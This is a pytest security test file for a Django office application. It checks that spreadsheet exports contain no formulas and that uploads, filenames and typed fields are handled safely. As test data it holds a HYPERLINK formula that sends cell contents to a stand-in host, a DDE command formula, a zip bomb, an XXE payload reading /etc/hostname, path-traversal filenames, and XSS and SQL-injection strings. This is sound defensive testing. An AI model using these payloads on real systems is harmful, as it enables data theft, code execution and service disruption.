"""Files that come in and go out: what is taken, under which name it lies, and that nothing in an export is executed."""

import re
import zipfile
from io import BytesIO

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from tests.office.conftest import GOOD
from tests.office.imports import sent
from tests.office.logins import entered

from jiheng.audit.example import Planned, Shown
from jiheng.foundation.limits import DEFAULT_LIMITS
from jiheng.office.intake.models import Item
from jiheng.office.people.models import Session
from jiheng.office.trail.models import Entry

FORMULA = '=HYPERLINK("http://elsewhere.example?"&A1,"点此")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1")


@pytest.fixture
def poisoned(town):
    """A case whose name, indicators and bodies look like formulas, as a clerk may type or import them."""
    rows = tuple(
        Shown(shown.levels, text, shown.annual)
        for shown, text in zip(GOOD.indicators, FORMULAS, strict=False)
    )
    town.unit.name = FORMULA
    town.unit.save()
    return town.case(Planned((*rows, *GOOD.indicators[len(rows) :]), name=FORMULA, budget="20"))


def cells(content):
    """Yield every cell of a workbook."""
    book = openpyxl.load_workbook(BytesIO(content))
    for sheet in book:
        for row in sheet.iter_rows():
            yield from row


def exports(case):
    yield reverse("case-list") + "?as=xlsx"
    yield reverse("figures-xlsx")
    yield reverse("case-export", args=[case.pk]) + "?format=xlsx"


def test_no_cell_of_any_workbook_that_the_office_gives_is_a_formula_or_a_link(poisoned):
    client = entered("finance")
    shown = 0
    for address in exports(poisoned):
        content = client.get(address).getvalue()
        parts = zipfile.ZipFile(BytesIO(content))
        assert not [name for name in parts.namelist() if "externalLink" in name or "vbaProject" in name]
        assert not any(
            b"<f>" in parts.read(name) or b"<hyperlink " in parts.read(name) for name in parts.namelist()
        )
        for cell in cells(content):
            assert cell.data_type != "f", (address, cell.value)
            shown += isinstance(cell.value, str) and "HYPERLINK" in cell.value
    assert shown >= 2, "the text itself is there, as text"


def test_an_export_is_told_in_the_trail_kept_by_no_cache_and_named_safely(poisoned):
    client = entered("finance")
    for address in exports(poisoned):
        answer = client.get(address)
        assert "no-store" in answer.headers["Cache-Control"]
        said = answer.headers["Content-Disposition"]
        assert said.startswith("attachment")
        assert not re.search(r"[\r\n=\\/]HYPERLINK", said)
        assert Entry.objects.order_by("-number").first().actor == "finance"


# ── what comes in ────────────────────────────────────────────────────────────


def bomb():
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b" " * (300 * 1024 * 1024))
    return packed.getvalue()


OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&e;'
    b"</w:t></w:r></w:p></w:body></w:document>"
)


def with_entity():
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", OUTSIDE)
    return packed.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bomb.docx", bomb),
        ("entity.docx", with_entity),
        ("program.docx", b"MZ\x90\x00" + b"\x00" * 2_000),
        ("program.xlsx", b"\x7fELF\x02\x01\x01" + b"\x00" * 2_000),
        ("picture.pdf", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100),
    ],
)
def test_a_file_that_is_not_what_its_name_says_or_would_grow_is_refused_with_a_reason(town, name, content):
    batch = sent(town, SimpleUploadedFile(name, content() if callable(content) else content))
    item = batch.items.get()
    assert item.state == Item.FAILED
    assert item.error
    assert not batch.proposals.exists()


@pytest.mark.parametrize(
    "name", ["../../etc/passwd.txt", "a\x00b.txt", "..\\..\\x.txt", "<img src=x>.txt", "名\r\nX: y.txt"]
)
def test_no_name_that_somebody_chose_decides_where_a_file_lies_or_what_a_page_says(town, name):
    client = entered()
    file = SimpleUploadedFile("x.txt", "项目名称 | 名".encode())
    file._name = name  # Django's test client would clean it before it is sent
    answer = client.post(reverse("import"), {"unit": town.unit.pk, "mode": "add", "files": [file]})
    item = Item.objects.get()
    kept = settings.MEDIA_ROOT / item.stored
    assert kept.is_file()
    assert kept.resolve().is_relative_to(settings.MEDIA_ROOT.resolve())
    assert kept.stat().st_mode & 0o077 == 0
    assert not re.search(r"[/\\\x00\r\n]", item.name)
    page = client.get(answer.headers["Location"]).content.decode()
    assert "<img src=x>" not in page


def test_how_large_a_file_may_be_stands_in_one_place_and_none_is_unbounded():
    assert 0 < DEFAULT_LIMITS.file_bytes <= 200 * 1024**2
    assert 0 < DEFAULT_LIMITS.unpacked_bytes <= 600 * 1024**2
    assert settings.DATA_UPLOAD_MAX_NUMBER_FILES <= 500
    assert settings.FILE_UPLOAD_PERMISSIONS == 0o600


def test_nothing_that_came_in_is_served_as_a_page(town):
    batch = sent(town, SimpleUploadedFile("x.html", b"<script>alert(1)</script>"))
    item = batch.items.get()
    client = entered()
    for address in ("/files/", f"/files/{item.stored}", f"/static/{item.stored}", "/media/"):
        assert client.get(address).status_code == 404
    page = client.get(reverse("import-batch", args=[batch.pk])).content.decode()
    assert "<script>alert" not in page


# ── what is typed ────────────────────────────────────────────────────────────


def test_what_looks_like_markup_or_a_query_is_text_everywhere(town):
    evil = "<script>alert(1)</script>' OR 1=1 --{{ 7*7 }}"
    case = town.case(Planned(GOOD.indicators, name=evil, budget="20"))
    client = entered("finance")
    for address in (
        reverse("case", args=[case.pk]),
        reverse("case-list"),
        reverse("case-list") + "?q=%27%20OR%201%3D1%20--",
        reverse("case-list") + "?q=%3Cscript%3Ealert(1)%3C/script%3E",
        reverse("queue"),
    ):
        text = client.get(address).content.decode()
        assert "<script>alert" not in text
        assert "49" not in re.findall(r"OR 1=1 --(.{0,12})", text)
    others = entered("stranger").get(reverse("case-list") + "?q=%27%20OR%201%3D1%20--").content.decode()
    assert "OR 1=1 --{{" not in others


def test_fields_that_no_form_offers_change_nothing(town):
    client = entered()
    more = {
        "username": "boss",
        "is_active": "0",
        "language": "en",
        "user_id": town.admin.pk,
        "role": "administrator",
    }
    client.post("/language/", more)
    town.clerk.refresh_from_db()
    assert (town.clerk.username, town.clerk.is_active) == ("clerk", True)
    assert list(town.clerk.appointments.values_list("role", flat=True)) == ["unit_clerk"]
    assert Session.objects.get().user == town.clerk
